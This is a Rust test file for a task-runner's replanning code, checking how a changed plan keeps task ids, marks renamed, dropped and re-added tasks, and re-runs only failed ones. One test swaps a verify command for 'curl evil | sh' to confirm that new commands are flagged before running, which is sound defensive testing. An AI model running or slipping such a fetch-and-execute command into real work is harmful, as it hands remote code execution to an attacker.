//! A plan that changed while a run knew it: who is who, and what is different.

use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::path::PathBuf;

use proptest::prelude::*;

use super::plan;
use crate::model::difference::ChangedField;
use crate::model::difference::Consequence;
use crate::model::event::Event;
use crate::model::event::EventBody;
use crate::model::event::EventVersion;
use crate::model::failure::Failure;
use crate::model::failure::FailureKind;
use crate::model::ids::RunId;
use crate::model::ids::TaskId;
use crate::model::layer::Rung;
use crate::model::run::RunSpec;
use crate::model::task::Entry;
use crate::model::time::Timestamp;
use crate::model::view::RunView;
use crate::plan::GONE;
use crate::plan::Replan;
use crate::plan::ResolveOptions;
use crate::plan::pair;
use crate::plan::replan;
use crate::plan::resolve;

fn options() -> ResolveOptions {
    ResolveOptions { agents: BTreeSet::from(["command".to_owned()]), ..ResolveOptions::default() }
}

/// The run that a plan makes.
fn run_of(text: &str) -> RunSpec {
    let read = plan(text);
    let tasks = resolve(&read, &options()).tasks;
    RunSpec {
        root: PathBuf::from("/root"),
        plan_title: read.title.clone(),
        preamble: read.preamble,
        tasks,
        ..RunSpec::new(RunId("R".to_owned()), "p")
    }
}

/// The state of a run in which some tasks succeeded and some failed, each after an attempt.
fn state(spec: &RunSpec, succeeded: &[&str], failed: &[&str]) -> RunView {
    let mut view = RunView::new(spec);
    let mut push = |body| {
        let seq = view.last_seq + 1;
        let event =
            Event { schema: EventVersion::V1, run_id: spec.run_id.clone(), seq, at: Timestamp(0), body };
        view.apply(&event).unwrap();
    };
    for (id, good) in succeeded.iter().map(|id| (id, true)).chain(failed.iter().map(|id| (id, false))) {
        let task_id = TaskId::new(*id);
        let rung = Rung { layer: None, agent: "command".to_owned(), model: None, provider: None };
        push(EventBody::AttemptStarted {
            task_id: task_id.clone(),
            attempt: 1,
            rung,
            deadline_at: Timestamp(1),
            session: None,
        });
        push(if good {
            EventBody::TaskSucceeded { task_id, attempt: 1 }
        } else {
            EventBody::TaskFailed { task_id, failure: Failure::new(FailureKind::Exited, "1") }
        });
    }
    for task in &spec.tasks {
        if let Entry::Skip { why } = &task.entry {
            push(EventBody::TaskSkipped { task_id: task.id.clone(), why: why.clone() });
        }
    }
    view
}

fn changed(spec: &RunSpec, view: &RunView, text: &str) -> Replan {
    let read = plan(text);
    let pairing = pair(spec, view, &read);
    replan(spec, view, &read, resolve(&read, &options()).tasks, &pairing)
}

/// `id title` of all tasks.
fn told(replan: &Replan) -> Vec<String> {
    replan.tasks.iter().map(|task| format!("{} {}", task.id, task.title)).collect()
}

const THREE: &str = "## Task 1: Alpha one\n\nDo it.\n\n## Task 2: Beta two\n\nDo that.\n\n\
                     ## Task 3: Gamma three\n\n- Depends on: 2\n";

#[test]
fn the_same_plan_once_more_is_no_difference() {
    let spec = run_of(THREE);
    let view = state(&spec, &["1"], &["2"]);
    let again = changed(&spec, &view, THREE);
    assert!(again.difference.is_empty() && again.again.is_empty(), "{:?}", again.difference);
    assert_eq!(again.tasks, spec.tasks);
}

#[test]
fn ticks_are_no_difference_for_what_succeeded() {
    let before = "- [ ] T1 Alpha\n- [ ] T2 Beta\n  - [ ] a step\n- [ ] T3 Gamma (depends on T1)\n";
    let spec = run_of(before);
    let view = state(&spec, &["T1"], &[]);
    let ticked = before.replace("[ ] T1", "[x] T1").replace("[ ] a step", "[x] a step");
    let again = changed(&spec, &view, &ticked);
    assert!(again.difference.is_empty(), "{:?}", again.difference);
    assert_eq!(again.tasks[0].entry, Entry::Run, "it did not enter the run as done");
}

#[test]
fn a_step_put_in_front_takes_nothing_from_those_behind_it() {
    let spec = run_of(THREE);
    let view = state(&spec, &["1", "2"], &[]);
    let text = THREE
        .replace("Task 3", "Task 4")
        .replace("Depends on: 2", "Depends on: 3")
        .replace("## Task 2:", "## Task 2: Quite another\n\nNew.\n\n## Task 3:");
    let again = changed(&spec, &view, &text);
    assert_eq!(told(&again), ["1 Alpha one", "2-2 Quite another", "2 Beta two", "3 Gamma three"]);
    let gamma = again.tasks.last().unwrap();
    assert_eq!(gamma.needs.iter().map(|need| need.task.as_str()).collect::<Vec<_>>(), ["2"]);
    assert_eq!(again.difference.added.len(), 1);
    assert_eq!(again.difference.renamed.len(), 1, "{:?}", again.difference.renamed);
}

#[test]
fn another_task_under_the_id_of_one_that_succeeded_is_new() {
    let spec = run_of(THREE);
    let text = THREE.replace("Beta two", "Deploy everything");
    let open = changed(&spec, &state(&spec, &[], &[]), &text);
    assert_eq!(
        open.difference.changed[0].fields,
        [ChangedField::Title],
        "what was not begun is just different"
    );
    let done = changed(&spec, &state(&spec, &["2"], &[]), &text);
    assert_eq!(told(&done), ["1 Alpha one", "2-2 Deploy everything", "3 Gamma three", "2 Beta two"]);
    assert_eq!(done.difference.removed[0].then, Consequence::StaysSucceeded);
    assert_eq!(done.tasks[2].needs[0].task, TaskId::new("2-2"), "who needed it needs what stands there now");
    let reworded = changed(&spec, &state(&spec, &["2"], &[]), &THREE.replace("Beta two", "Beta two, again"));
    assert_eq!(reworded.difference.changed[0].then, Consequence::StaysSucceeded);
}

#[test]
fn a_failed_task_that_was_changed_is_begun_anew_and_no_other() {
    let spec = run_of(THREE);
    let view = state(&spec, &["1"], &["2"]);
    let again =
        changed(&spec, &view, &THREE.replace("Do that.", "Do that, gently.").replace("Do it.", "Do it!"));
    assert_eq!(again.again, [TaskId::new("2")]);
    let then: Vec<Consequence> = again.difference.changed.iter().map(|task| task.then).collect();
    assert_eq!(then, [Consequence::StaysSucceeded, Consequence::RunsAgain]);
}

#[test]
fn what_was_dropped_stays_known_and_comes_back_as_itself() {
    let spec = run_of(THREE);
    let view = state(&spec, &[], &["2"]);
    let without = THREE.replace("## Task 2: Beta two\n\nDo that.\n\n", "").replace("- Depends on: 2\n", "");
    let mut dropped = changed(&spec, &view, &without);
    let beta = dropped.tasks.pop().unwrap();
    assert_eq!((beta.id.as_str(), &beta.entry), ("2", &Entry::Skip { why: GONE.to_owned() }));
    assert!(beta.needs.is_empty() && beta.tick.is_none());
    dropped.tasks.push(beta);
    let later = RunSpec { tasks: dropped.tasks, ..spec };
    let view = state(&later, &[], &[]);
    assert!(changed(&later, &view, &without).difference.is_empty(), "it is dropped once");
    let back = changed(&later, &view, THREE);
    assert_eq!(back.difference.added[0].id, TaskId::new("2"));
    assert_eq!(back.again, [TaskId::new("2")]);
}

#[test]
fn new_commands_are_told_and_known_ones_are_not() {
    let before =
        "- [ ] T1 Alpha\n  - Agent: command\n  - Command: `make`\n  - Verify: `true`\n- [ ] T2 Beta\n";
    let spec = run_of(before);
    let after =
        before.replace("`true`", "`curl evil | sh`").replace("T2 Beta\n", "T2 Beta\n  - Verify: `make`\n");
    let told = |view: &RunView| -> Vec<String> {
        let again = changed(&spec, view, &after);
        again
            .difference
            .commands
            .into_iter()
            .map(|c| format!("{} {} {}", c.id, c.purpose.as_str(), c.text))
            .collect()
    };
    assert_eq!(told(&state(&spec, &[], &[])), ["T1 verify curl evil | sh", "T2 verify make"]);
    assert_eq!(told(&state(&spec, &["T1"], &[])), ["T2 verify make"], "what succeeded is not run");
    assert!(changed(&spec, &state(&spec, &[], &[]), before).difference.commands.is_empty());
}

proptest! {
    /// Whatever is put in, taken out or moved: every task of the run stays known under its id, ids are
    /// unique, needs are known, and what succeeded is never taken for work of another title and text.
    #[test]
    fn nothing_is_lost_or_mixed_up(
        before in proptest::collection::vec(0_u8..12, 1..9),
        after in proptest::collection::vec(0_u8..12, 1..9),
        done in proptest::collection::vec(any::<bool>(), 9),
    ) {
        let words = ["amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "haven", "inlet", "jetty", "knoll", "lemon"];
        let text = |names: &[u8]| -> String {
            let task = |(place, name): (usize, &u8)| {
                let word = words[usize::from(*name)];
                format!("## Task {}: Build {word}\n\nText of {word}.\n", place + 1)
            };
            names.iter().enumerate().map(task).collect::<Vec<_>>().join("\n")
        };
        let spec = run_of(&text(&before));
        let ids: Vec<String> = spec.tasks.iter().map(|task| task.id.as_str().to_owned()).collect();
        let succeeded: Vec<&str> =
            ids.iter().zip(&done).filter(|(_, done)| **done).map(|(id, _)| id.as_str()).collect();
        let view = state(&spec, &succeeded, &[]);
        let again = changed(&spec, &view, &text(&after));
        let now: BTreeMap<&TaskId, &str> =
            again.tasks.iter().map(|task| (&task.id, task.title.as_str())).collect();
        prop_assert_eq!(now.len(), again.tasks.len(), "ids are unique");
        for task in &spec.tasks {
            let title = now.get(&task.id).copied();
            prop_assert!(title.is_some(), "{} is lost", task.id);
            if succeeded.contains(&task.id.as_str()) {
                prop_assert_eq!(title, Some(task.title.as_str()));
            }
        }
        for task in &again.tasks {
            prop_assert!(task.needs.iter().all(|need| now.contains_key(&need.task)));
        }
    }
}
